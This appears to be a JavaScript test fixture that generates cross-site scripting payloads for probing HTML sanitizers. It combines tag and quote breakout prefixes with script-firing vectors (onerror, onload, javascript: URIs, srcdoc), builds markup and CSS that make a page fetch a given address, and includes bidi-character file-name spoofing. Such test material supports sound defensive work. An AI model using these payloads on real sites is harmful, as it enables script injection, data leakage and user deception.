// Ways to slip a script into a text: each calls `ran()` when a browser takes it for more than a text. And ways to have
// a page fetch something, or to show another text than the one that is there.
export const deed = "ran()";
const openings = [
  "",
  '"',
  "'",
  "`",
  '">',
  "'>",
  "-->",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</b>",
  "]]>",
  "{{",
  "${",
];
export const runners = [
  `<script>${deed}</script>`,
  `<ScRiPt>${deed}</sCrIpT >`,
  `<img src=x onerror=${deed}>`,
  `<img src="x" OnErRoR = "${deed}">`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<body onload=${deed}>`,
  `<iframe src="javascript:top.${deed}"></iframe>`,
  `<iframe srcdoc="<script>top.${deed}</script>"></iframe>`,
  `<details open ontoggle=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<object data="javascript:top.${deed}"></object>`,
  `<a href="javascript:${deed}" autofocus onfocus=${deed}>x</a>`,
  `<math><mi xlink:href="javascript:${deed}">x</mi></math>`,
  ` onmouseover=${deed} autofocus onfocus=${deed} x=`,
  `<form><button formaction="javascript:${deed}" autofocus onfocus=${deed}>x</button></form>`,
  `&lt;img src=x onerror=${deed}&gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
];
export const payloads = openings.flatMap((opening) => runners.map((runner) => opening + runner));

/** All of them in texts of so many bytes at most. */
export function pieces(bytes, all = payloads) {
  const out = [""];
  for (const payload of all) {
    const next = `${out.at(-1)}${payload} `;
    if (Buffer.byteLength(next) > bytes) out.push(`${payload} `);
    else out[out.length - 1] = next;
  }
  return out;
}

const bidi = ["\u202e", "\u2066", "\u200f", "\ufeff"];

/** Texts that would load something of `address`, by markup or by style, or that turn what follows around. */
export const callers = (address) => [
  `<img src="${address}/img">`,
  `<link rel="stylesheet" href="${address}/css">`,
  `<style>@import url(${address}/import);body{background:url(${address}/style)}</style>`,
  `</style><style>*{background:url(${address}/after)}</style>`,
  `" style="background:url(${address}/attribute)" x="`,
  `\\3c img src=${address}/escaped \\3e`,
  `}*{background:url('${address}/brace')}`,
  `<meta http-equiv="refresh" content="0;url=${address}/refresh">`,
  `<base href="${address}/base/">`,
  `<form action="${address}/form"><input autofocus></form>`,
  `<script src="${address}/script"></script>`,
  `<iframe src="${address}/frame"></iframe>`,
  ...bidi.map((mark) => `${mark}txt.exe<img src="${address}/bidi" onerror=${deed}>`),
];
